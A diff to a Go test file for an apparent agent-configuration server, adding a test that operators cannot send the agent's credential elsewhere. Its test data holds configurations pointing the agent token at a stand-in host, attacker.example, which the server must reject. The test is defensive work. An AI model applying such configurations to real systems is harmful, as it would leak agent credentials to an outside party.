@@ -156,7 +156,6 @@ func TestOperatorAssignsCatalogAndPlainConfigs(t *testing.T) {
 		{"pipeline": "topk", "parameters": map[string]any{"destination": "newrelic"}},
 		{"config": validConfig},
 		{"config": withHeader("${env:NEW_RELIC_LICENSE_KEY}")},
-		{"config": withHeader("Bearer ${env:" + apitypes.AgentTokenEnv + "}")},
 		{"config": withHeader("$${file:/escaped/is/literal}")},
 	} {
 		data[apitypes.Assignment](t, env.do(t, http.MethodPut, apitypes.Prefix+"/agents/agent-1/config", body, bearer(operatorToken)...))
@@ -167,6 +166,32 @@ func TestOperatorAssignsCatalogAndPlainConfigs(t *testing.T) {
 		map[string]any{"config": withHeader("${env:NEW_RELIC_LICENSE_KEY}")}, bearer(viewerToken)...))
 	assert.False(t, v.RequiresAdmin)
 	assert.Empty(t, v.HostAccess)
+}
+
+// The agent's own credential goes to this server only: an operator can
+// neither send it elsewhere in a verbatim configuration or through an
+// env_var parameter, nor point the server's own-telemetry parameters
+// elsewhere. Every agent's credential would otherwise reach whoever the
+// operator chose.
+func TestOperatorsCannotSendTheAgentsCredentialElsewhere(t *testing.T) {
+	env := newTestEnv(t, withTokens(t))
+	putAgent(t, env.store, apitypes.Agent{InstanceUID: "agent-1"})
+	for name, body := range map[string]map[string]any{
+		"a verbatim header": {"config": withHeader("Bearer ${env:" + apitypes.AgentTokenEnv + "}")},
+		"an env_var parameter": {"pipeline": "baseline", "parameters": map[string]any{"destination": "otlp_http",
+			"otlp_endpoint": "https://attacker.example:4318", "otlp_env_headers": map[string]any{"authorization": apitypes.AgentTokenEnv}}},
+	} {
+		r := env.do(t, http.MethodPut, apitypes.Prefix+"/agents/agent-1/config", body, bearer(operatorToken)...)
+		assert.Equal(t, http.StatusForbidden, r.status, "%s: %s", name, r.body)
+	}
+	for _, param := range []string{"telemetry_endpoint", "telemetry_token_env", "instance_id"} {
+		r := env.do(t, http.MethodPut, apitypes.Prefix+"/agents/agent-1/config", map[string]any{"pipeline": "baseline",
+			"parameters": map[string]any{param: "https://attacker.example/v1/metrics"}}, bearer(adminToken)...)
+		assert.Equal(t, http.StatusBadRequest, r.status, "%s: %s", param, r.body)
+		assert.Contains(t, string(r.body), "set by the server")
+	}
+	_, err := env.store.GetAssignment(t.Context(), "agent-1")
+	assert.Error(t, err, "nothing was assigned")
 }
 
 // Without authentication every caller may do everything, this included.
